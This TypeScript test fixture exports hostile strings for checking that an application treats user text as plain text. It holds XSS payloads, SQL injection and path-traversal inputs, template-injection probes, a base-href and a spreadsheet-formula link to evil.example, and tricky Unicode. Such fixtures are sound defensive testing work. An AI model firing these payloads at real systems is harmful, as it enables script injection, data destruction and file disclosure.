/** Runs if anything takes a text for more than a text: a dialog, a request, a title that a test would see. */
const attack = "alert(1);fetch('/stolen');document.title='owned'";

const scripts = [
  `<script>${attack}</script>`,
  `</script><script>${attack}</script>`,
  `<ScRiPt src="/stolen.js"></ScRiPt>`,
  `<img src=x onerror="${attack}">`,
  `<svg/onload=${attack}>`,
  `<svg><script>${attack}</script></svg>`,
  `<body onload="${attack}">`,
  `<details open ontoggle="${attack}">`,
  `<iframe src="javascript:${attack}"></iframe>`,
  `<iframe srcdoc="<script>${attack}</script>"></iframe>`,
  `<a href="javascript:${attack}">press</a>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${attack}>`,
  `<noscript><p title="</noscript><img src=x onerror=${attack}>">`,
  `<template><script>${attack}</script></template>`,
  `<base href="//evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=/stolen">`,
  `<link rel=stylesheet href=/stolen.css>`,
  `<form action=/stolen><button autofocus onfocus=${attack}>`,
  `<style>*{background:url(/stolen)}</style>`,
  `<object data=/stolen></object>`,
];

const breakouts = [
  `" onmouseover="${attack}" x="`,
  `' autofocus onfocus='${attack}`,
  `javascript:${attack}`,
  `data:text/html,<script>${attack}</script>`,
  `");${attack};//`,
  `'-${attack}-'`,
  ["`$", "{alert(1)}`"].join(""),
  "{{constructor.constructor('alert(1)')()}}",
  ["$", "{7*7}#{7*7}<%= 7*7 %>"].join(""),
  "{% include '/etc/passwd' %}",
  '=HYPERLINK("http://evil.example")',
  "'; DROP TABLE flow; --",
  "' OR 1=1 --",
  "; color: red; } * { display: none } .x {",
  "expression(alert(1))",
  "../../../etc/passwd",
  "..\\..\\windows\\system32",
  "%3Cscript%3Ealert(1)%3C/script%3E",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "__proto__",
  "constructor",
];

const shapes = [
  "\u202Eflow.exe\u202C",
  "\u2066\u2067\u2068 isolated \u2069",
  "مرحبا بالعالم",
  "zero\u200Bwidth\u200Djoin\uFEFFer",
  "👩‍👩‍👧‍👦🏳️‍🌈🇪🇺",
  `Z${"\u0351\u0337\u0322".repeat(20)}algo`,
  "\ud83d alone",
  "a\u0000b",
  "line\nbreak\ttab\r\u2028\u2029",
  "W".repeat(200),
];

/** Texts that somebody might try to break out with, each short enough for a name of 200 characters. */
export const hostileTexts: readonly string[] = [...scripts, ...breakouts, ...shapes];

/** Of 100 KB, with the attacks in it. */
export const longText = `${scripts.join(" ")} ${"long words ".repeat(10_000)}`.slice(0, 100_000);
